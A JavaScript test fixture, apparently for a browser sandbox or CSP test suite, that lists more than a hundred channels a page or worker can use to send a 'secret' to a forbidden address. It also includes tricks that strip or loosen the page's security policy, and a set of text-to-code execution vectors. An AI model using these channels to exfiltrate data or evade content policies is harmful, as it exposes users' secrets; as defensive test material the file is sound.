// Ways to send data away, for attacks.spec.ts: plain text that runs in a page or in a worker, never in the test itself.
// Each gets the address that must not be reached, and `quiet`, the 127.0.0.1:port of a host that counts connections and packets.
(() => {
  const add = (tag, properties = {}, parent = document.body) => parent.appendChild(Object.assign(document.createElement(tag), properties));
  const set = (tag, attributes, parent = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    return parent.appendChild(element);
  };
  const html = (text) => { add('div').innerHTML = text; };
  const svg = (text) => html(`<svg width="9" height="9">${text}</svg>`);
  /** A box on screen that is drawn with this property, set by script alone. */
  const draw = (property, value) => add('div', { textContent: 'x' }).style.setProperty(property, value);
  /** A box of this class, under a style sheet that script alone made. */
  const sheet = (name, text) => {
    const made = new CSSStyleSheet();
    made.replaceSync(text);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, made];
    set('div', { class: name }).textContent = 'x';
  };
  const write = (inner, text) => { inner.open(); inner.write(text); inner.close(); };
  const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
  const link = (rel, href, more = {}) => set('link', { rel, href, ...more }, document.head);
  const frame = () => add('iframe', { name: `frame${Math.random()}` });
  const form = (action, method, more = {}) => {
    const made = add('form', { action, method, target: frame().name, ...more });
    add('input', { name: 'stolen', value: 'secret' }, made);
    return made;
  };
  const socket = (url) => url.replace('http', 'ws');
  const secret = () => new Blob(['secret']);

  // What both realms can do.
  const both = {
    'fetch': (url) => fetch(url),
    'fetch no-cors': (url) => fetch(url, { mode: 'no-cors' }),
    'fetch POST': (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'secret' }),
    'fetch POST json (preflight)': (url) => fetch(url, { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }),
    'fetch keepalive': (url) => fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' }),
    'fetch with credentials': (url) => fetch(url, { credentials: 'include' }),
    'fetch of a Request': (url) => fetch(new Request(url, { method: 'PUT', body: 'secret' })),
    'fetch, low priority, aborted late': (url) => { const end = new AbortController(); const sent = fetch(url, { signal: end.signal, priority: 'low' }); setTimeout(() => end.abort(), 3000); return sent; },
    'XMLHttpRequest GET': (url) => { const ask = new XMLHttpRequest(); ask.open('GET', url); ask.send(); },
    'XMLHttpRequest POST': (url) => { const ask = new XMLHttpRequest(); ask.open('POST', url); ask.send('secret'); },
    'XMLHttpRequest sync': (url) => { const ask = new XMLHttpRequest(); ask.open('GET', url, false); ask.send(); },
    'WebSocket': (url) => { new WebSocket(socket(url)); },
    'WebSocketStream': (url) => new WebSocketStream(socket(url)).opened,
    'eventsource': (url) => { new EventSource(url); },
    'WebTransport (packet)': (url, quiet) => new WebTransport(`https://${quiet}/secret`).ready,
    'Cache.add': async (url) => (await caches.open('attack')).add(url),
    'Cache.add no-cors': async (url) => (await caches.open('attack')).add(new Request(url, { mode: 'no-cors' })),
    'FontFace': (url) => new FontFace('stolen', `url(${url})`).load(),
    'wasm streaming': (url) => WebAssembly.compileStreaming(fetch(url)),
    'import()': (url) => import(url),
    'import() in a blob module worker': (url) => { new Worker(blob(`import(${JSON.stringify(url)})`), { type: 'module' }); },
    'static import in a blob module worker': (url) => { new Worker(blob(`import ${JSON.stringify(url)};`), { type: 'module' }); },
    'worker of a URL': (url) => { new Worker(url); },
    'module worker of a URL': (url) => { new Worker(url, { type: 'module' }); },
    'fetch in a blob worker': (url) => { new Worker(blob(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`)); },
    'fetch in a data worker': (url) => { new Worker(`data:text/javascript,fetch(${encodeURIComponent(JSON.stringify(url))},{mode:'no-cors'})`); },
    'importScripts in a blob worker': (url) => { new Worker(blob(`importScripts(${JSON.stringify(url)})`)); },
    'XMLHttpRequest sync in a blob worker': (url) => { new Worker(blob(`const a = new XMLHttpRequest(); a.open('GET', ${JSON.stringify(url)}, false); a.send();`)); },
    'WebSocket in a blob worker': (url) => { new Worker(blob(`new WebSocket(${JSON.stringify(socket(url))})`)); },
    'fetch in a worker of a worker': (url) => {
      const inner = `fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`;
      new Worker(blob(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}], { type: 'text/javascript' })))`));
    },
    'URL worker in a worker': (url) => { new Worker(blob(`new Worker(${JSON.stringify(url)})`)); },
    'Notification icon': (url) => { new Notification('x', { icon: url }); },
    'eval': (url) => (0, eval)(`fetch(${JSON.stringify(url)})`),
    'Function': (url) => Function('url', 'return fetch(url)')(url),
    'timer text': (url) => { setTimeout(`fetch(${JSON.stringify(url)})`, 0); },
  };

  const page = {
    ...both,
    'fetchLater': (url) => { fetchLater(url, { method: 'POST', body: 'secret', activateAfter: 0 }); },
    'sendBeacon': (url) => { navigator.sendBeacon(url, 'secret'); },
    'sendBeacon of a blob': (url) => { navigator.sendBeacon(url, secret()); },
    'SharedWorker of a URL': (url) => { new SharedWorker(url); },
    'fetch in a blob SharedWorker': (url) => { new SharedWorker(blob(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`)); },
    'ServiceWorker': (url) => navigator.serviceWorker.register(url),
    'after the policy tags are taken out': (url) => {
      document.querySelectorAll('meta[http-equiv]').forEach((policy) => policy.remove());
      return fetch(url);
    },
    'after a policy that allows all is added': (url) => {
      set('meta', { 'http-equiv': 'Content-Security-Policy', content: "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:" }, document.head);
      return fetch(url);
    },

    'Image': (url) => { new Image().src = url; },
    'Image crossorigin': (url) => { Object.assign(new Image(), { crossOrigin: 'anonymous', src: url }); },
    'Image.decode': (url) => Object.assign(new Image(), { src: url }).decode(),
    'img srcset': (url) => { html(`<img srcset="${url} 2x">`); },
    'picture source': (url) => { html(`<picture><source srcset="${url}"><img></picture>`); },
    'img in a template': (url) => { const made = add('template', { innerHTML: `<img src="${url}">` }); document.body.append(made.content); },
    'img of parsed text': (url) => { document.body.append(...Document.parseHTMLUnsafe(`<img src="${url}">`).body.childNodes); },
    'img in a shadow tree': (url) => { add('div').attachShadow({ mode: 'open' }).innerHTML = `<img src="${url}">`; },
    'lazy img': (url) => { const box = add('div', { innerHTML: `<img loading="lazy" src="${url}" width="9" height="9">` }); box.scrollIntoView(); },
    'input type=image': (url) => { html(`<input type="image" src="${url}">`); },
    'video poster': (url) => { html(`<video poster="${url}"></video>`); },
    'body background': (url) => { document.body.setAttribute('background', url); },
    'table background': (url) => { html(`<table background="${url}"><td>x</table>`); },
    'td background': (url) => { html(`<table><td background="${url}">x</table>`); },
    'svg image': (url) => { svg(`<image href="${url}" width="9" height="9"/>`); },
    'svg feImage': (url) => { svg(`<filter id="f1"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f1)"/>`); },
    'svg use': (url) => { svg(`<use href="${url}#x"/>`); },
    'svg fill': (url) => { svg(`<rect width="9" height="9" fill="url(${url}#x)"/>`); },
    'svg script': (url) => { const made = document.createElementNS('http://www.w3.org/2000/svg', 'script'); made.setAttribute('href', url); document.body.append(made); },
    'svg in a data image': (url) => { new Image().src = `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`)}`; },

    'css background': (url) => draw('background-image', `url(${url})`),
    'css image-set': (url) => draw('background-image', `image-set(url(${url}) 1x)`),
    'css cursor': (url) => { draw('cursor', `url(${url}), auto`); },
    'css list style': (url) => { const item = add('li', { textContent: 'x' }); item.style.listStyleImage = `url(${url})`; },
    'css border image': (url) => { const box = add('div', { textContent: 'x' }); box.style.border = '9px solid'; box.style.borderImageSource = `url(${url})`; },
    'css mask': (url) => draw('mask-image', `url(${url})`),
    'css clip path': (url) => draw('clip-path', `url(${url}#x)`),
    'css filter': (url) => draw('filter', `url(${url}#x)`),
    'css backdrop filter': (url) => draw('backdrop-filter', `url(${url}#x)`),
    'css shape': (url) => { const box = add('div', { textContent: 'x' }); box.style.float = 'left'; box.style.shapeOutside = `url(${url})`; },
    'css content': (url) => draw('content', `url(${url})`),
    'css variable': (url) => { const box = add('div', { textContent: 'x' }); box.style.setProperty('--stolen', `url(${url})`); box.style.background = 'var(--stolen)'; },
    'css animation': (url) => { add('div', { textContent: 'x' }).animate([{ backgroundImage: `url(${url})` }, { backgroundImage: 'none' }], 5000); },
    'canvas filter': (url) => { const pen = add('canvas').getContext('2d'); pen.filter = `url(${url}#x)`; pen.fillRect(0, 0, 9, 9); },
    'sheet made by script': (url) => sheet('made1', `.made1 { background: url(${url}) }`),
    'sheet made by script, ::before': (url) => sheet('made2', `.made2::before { content: url(${url}) }`),
    'sheet made by script, font': (url) => sheet('made3', `@font-face { font-family: stolen2; src: url(${url}) } .made3 { font-family: stolen2 }`),
    'rule added to the page’s sheet': (url) => { document.styleSheets[0].insertRule(`body { list-style: url(${url}) }`); add('li', { textContent: 'x' }); },
    'import added to the page’s sheet': (url) => { document.styleSheets[0].insertRule(`@import url(${url})`, 0); },
    'style element': (url) => { add('style', { textContent: `.made4 { background: url(${url}) }` }); set('div', { class: 'made4' }).textContent = 'x'; },
    'style element, import': (url) => { add('style', { textContent: `@import url(${url})` }); },
    'style element, font': (url) => { add('style', { textContent: `@font-face { font-family: stolen3; src: url(${url}) } .made5 { font-family: stolen3 }` }); set('div', { class: 'made5' }).textContent = 'x'; },
    'style attribute': (url) => { html(`<div style="background: url(${url})">x</div>`); },
    'link stylesheet': (url) => { link('stylesheet', url); },
    'link stylesheet for print': (url) => { link('stylesheet', url, { media: 'print' }); },
    'link alternate stylesheet': (url) => { link('alternate stylesheet', url, { title: 'x' }); },
    'link stylesheet of a data sheet': (url) => { link('stylesheet', `data:text/css,@import url(${encodeURIComponent(url)})`); },
    'paint worklet': (url) => CSS.paintWorklet.addModule(url),
    'audio worklet': (url) => new AudioContext().audioWorklet.addModule(url),
    'shared storage worklet': (url) => sharedStorage.worklet.addModule(url),

    'link icon': (url) => { link('icon', url); },
    'link manifest': (url) => { link('manifest', url); },
    'link prefetch': (url) => { link('prefetch', url); },
    'link prerender': (url) => { link('prerender', url); },
    'link preload script': (url) => { link('preload', url, { as: 'script' }); },
    'link preload style': (url) => { link('preload', url, { as: 'style' }); },
    'link preload image': (url) => { link('preload', url, { as: 'image' }); },
    'link preload font': (url) => { link('preload', url, { as: 'font', crossorigin: '' }); },
    'link preload fetch': (url) => { link('preload', url, { as: 'fetch', crossorigin: '' }); },
    'link preload track': (url) => { link('preload', url, { as: 'track' }); },
    'link preload imagesrcset': (url) => { set('link', { rel: 'preload', as: 'image', imagesrcset: url }, document.head); },
    'link modulepreload': (url) => { link('modulepreload', url); },
    'link dictionary': (url) => { link('compression-dictionary', url); },

    'script': (url) => { add('script', { src: url }); },
    'module script': (url) => { add('script', { src: url, type: 'module' }); },
    'script crossorigin': (url) => { add('script', { src: url, crossOrigin: 'anonymous' }); },
    'script of parsed text': (url) => { document.body.append(document.createRange().createContextualFragment(`<script src="${url}"></script>`)); },
    'import map': (url) => { add('script', { type: 'importmap', textContent: JSON.stringify({ imports: { stolen: url } }) }, document.head); return import('stolen'); },
    'inline script': (url) => { add('script', { textContent: `fetch(${JSON.stringify(url)})` }); },
    'inline module importing': (url) => { add('script', { type: 'module', textContent: `import ${JSON.stringify(url)};` }); },
    'blob script': (url) => { add('script', { src: blob(`fetch(${JSON.stringify(url)})`) }); },
    'event attribute': (url) => { html(`<button onclick='fetch(${JSON.stringify(url)})'>x</button>`); document.querySelector('button[onclick]').click(); },
    'javascript: address': (url) => { add('iframe', { src: `javascript:fetch(${JSON.stringify(url)})` }); },

    'iframe': (url) => { add('iframe', { src: url }); },
    'sandboxed iframe': (url) => { set('iframe', { sandbox: 'allow-scripts', src: url }); },
    'iframe of text': (url) => { add('iframe', { srcdoc: `<img src="${url}">` }); },
    'iframe of data': (url) => { add('iframe', { src: `data:text/html,<img src="${url}">` }); },
    'iframe of a blob': (url) => { add('iframe', { src: blob(`<img src="${url}">`, 'text/html') }); },
    'iframe of a blob that goes on': (url) => { add('iframe', { src: blob(`<meta http-equiv="refresh" content="0;url=${url}">`, 'text/html') }); },
    'fetch of an empty iframe': (url) => frame().contentWindow.fetch(url, { mode: 'no-cors' }),
    'image of an empty iframe': (url) => { new (frame().contentWindow.Image)().src = url; },
    'text written into an empty iframe': (url) => write(frame().contentDocument, `<img src="${url}">`),
    'worker of an empty iframe': (url) => { const { Worker, Blob, URL } = frame().contentWindow; new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`], { type: 'text/javascript' }))); },
    'location of an empty iframe': (url) => { frame().contentWindow.location = url; },
    'refresh in an empty iframe': (url) => write(frame().contentDocument, `<meta http-equiv="refresh" content="0;url=${url}">`),
    'fetch of an empty popup': (url) => open('about:blank').fetch(url, { mode: 'no-cors' }),
    'image of an empty popup': (url) => { const made = open(''); new made.Image().src = url; },
    'text written into an empty popup': (url) => write(open('').document, `<img src="${url}">`),
    'popup of a blob': (url) => { open(blob(`<img src="${url}"><script>fetch(${JSON.stringify(url)})</script>`, 'text/html')); },
    'object': (url) => { set('object', { data: url }); },
    'object of an image': (url) => { set('object', { data: url, type: 'image/svg+xml' }); },
    'embed': (url) => { set('embed', { src: url }); },
    'frame set': (url) => write(frame().contentDocument, `<frameset><frame src="${url}"></frameset>`),
    'fenced frame': (url) => { add('fencedframe', { config: new FencedFrameConfig(url) }); },
    'base of another host': (url) => {
      const { contentDocument: inner } = frame();
      set('base', { href: url }, inner.head);
      set('img', { src: '' }, inner.body).src = new URL(url).pathname;
    },

    'video': (url) => { add('video', { src: url, autoplay: true, muted: true }); },
    'audio': (url) => { add('audio', { src: url, preload: 'auto' }); },
    'Audio': (url) => { new Audio(url).load(); },
    'media source element': (url) => { html(`<video preload="auto"><source src="${url}"></video>`); },
    'track': (url) => { html(`<video crossorigin><track default kind="captions" src="${url}"></video>`); document.querySelector('track').track.mode = 'showing'; },
    'media session artwork': (url) => { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: url }] }); },

    'form GET': (url) => { form(url, 'get').submit(); },
    'form POST': (url) => { form(url, 'post').submit(); },
    'form POST of a file': (url) => { form(url, 'post', { enctype: 'multipart/form-data' }).requestSubmit(); },
    'form into a new tab': (url) => { form(url, 'post', { target: '_blank' }).submit(); },
    'formaction': (url) => { const button = set('button', { formaction: url }, form('about:blank', 'post')); button.click(); },
    'a ping': (url) => { add('a', { href: `${location.href.split('#')[0]}#x`, ping: url }).click(); },
    'area ping': (url) => { add('area', { href: `${location.href.split('#')[0]}#x`, ping: url }).click(); },
    'attribution source': (url) => { set('img', { attributionsrc: url, src: 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' }); },
    'identity provider': (url) => navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'secret' }] } }),
    'payment method': (url) => new PaymentRequest([{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
    'report of a policy': (url) => {
      const { contentDocument: inner } = frame();
      set('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${url}` }, inner.head);
      set('img', { src: 'data:,' }, inner.body);
    },
  };

  const worker = {
    ...both,
    'importScripts': (url) => { importScripts(url); },
    'importScripts of a blob': (url) => { importScripts(blob(`fetch(${JSON.stringify(url)})`)); },
    'importScripts of data': (url) => { importScripts(`data:text/javascript,fetch(${encodeURIComponent(JSON.stringify(url))})`); },
    'drawing with a fetched font': (url) => { const font = new FontFace('stolen4', `url(${url})`); self.fonts.add(font); new OffscreenCanvas(9, 9).getContext('2d').font = '9px stolen4'; return font.load(); },
    'fetch once the start is over': (url) => { setTimeout(() => fetch(url, { mode: 'no-cors' })); },
  };

  // These need a page of their own: they take it, or another window, away, or work only in front.
  const alone = {
    'speculation rules, prefetch': (url) => { add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }] }) }, document.head); },
    'speculation rules, prerender': (url) => { add('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ urls: [url], eagerness: 'immediate' }] }) }, document.head); },
    'link preconnect (connection)': (_, quiet) => { link('preconnect', `http://${quiet}/`); },
    'location =': (url) => { location.href = url; },
    'location.replace': (url) => { location.replace(url); },
    'navigation.navigate': (url) => { navigation.navigate(url); },
    'a click': (url) => { add('a', { href: url }).click(); },
    'a click, new tab': (url) => { add('a', { href: url, target: '_blank' }).click(); },
    'a download': (url) => { add('a', { href: url, download: 'x' }).click(); },
    'window.open': (url) => { open(url); },
    'window.open noopener': (url) => { open(url, '', 'noopener'); },
    'location of a popup': (url) => { open('about:blank').location = url; },
    'refresh in a popup': (url) => write(open('').document, `<meta http-equiv="refresh" content="0;url=${url}">`),
    'opener of a popup': (url) => { open('about:blank').opener.location = url; },
    'svg link': (url) => { svg(`<a href="${url}"><text y="9">x</text></a>`); document.querySelector('svg a').dispatchEvent(new MouseEvent('click', { bubbles: true })); },
    'document.open of a refresh': (url) => write(document, `<meta http-equiv="refresh" content="0;url=${url}">`),
    'meta refresh': (url) => { set('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }, document.head); },
    'blob page that goes on': (url) => { location.href = blob(`<meta http-equiv="refresh" content="0;url=${url}">`, 'text/html'); },
    'WebRTC (packet)': async (_, quiet) => {
      const line = new RTCPeerConnection({ iceServers: [{ urls: `stun:${quiet}` }] });
      line.createDataChannel('x');
      await line.setLocalDescription(await line.createOffer());
    },
    'WebRTC over TCP (connection)': async (_, quiet) => {
      const line = new RTCPeerConnection({ iceServers: [{ urls: `turn:${quiet}?transport=tcp`, username: 'secret', credential: 'x' }], iceTransportPolicy: 'relay' });
      line.createDataChannel('x');
      await line.setLocalDescription(await line.createOffer());
    },
  };

  // Text that becomes code: each must call `ran()`.
  const code = {
    both: {
      'eval': () => { (0, eval)('ran("eval")'); },
      'Function': () => { Function('ran("Function")')(); },
      'AsyncFunction': () => (async () => {}).constructor('ran("AsyncFunction")')(),
      'timer text': () => { setTimeout('ran("timer text")'); },
      'interval text': () => { setInterval('ran("interval text")', 100); },
      'import of data': () => import('data:text/javascript,ran("import of data")'),
      'import of a blob': () => import(blob('ran("import of a blob")')),
      'data worker': () => { new Worker('data:text/javascript,postMessage("x")').onmessage = () => ran('data worker'); },
    },
    page: {
      'inline script': () => { add('script', { textContent: 'ran("inline script")' }); },
      'inline module': () => { add('script', { type: 'module', textContent: 'ran("inline module")' }); },
      'data script': () => { add('script', { src: 'data:text/javascript,ran("data script")' }); },
      'blob script': () => { add('script', { src: blob('ran("blob script")') }); },
      'event attribute': () => { set('button', { onclick: 'ran("event attribute")' }).click(); },
      'javascript: address': () => { location.href = 'javascript:void ran("javascript: address")'; },
      'javascript: link': () => { add('a', { href: 'javascript:void ran("javascript: link")' }).click(); },
      'script in an iframe': () => { add('iframe', { srcdoc: '<script>parent.ran("script in an iframe")</script>' }); },
      'script of parsed text': () => { document.body.append(document.createRange().createContextualFragment('<script>ran("script of parsed text")</script>')); },
      'inline style': () => { html('<div id="styled" style="width: 7px"></div>'); if (getComputedStyle(document.querySelector('#styled')).width === '7px') ran('inline style'); },
    },
    worker: {
      'importScripts of a blob': () => { importScripts(blob('ran("importScripts of a blob")')); },
      'importScripts of data': () => { importScripts('data:text/javascript,ran("importScripts of data")'); },
    },
  };
  return { page, worker, alone, code: { page: { ...code.both, ...code.page }, worker: { ...code.both, ...code.worker } } };
})()
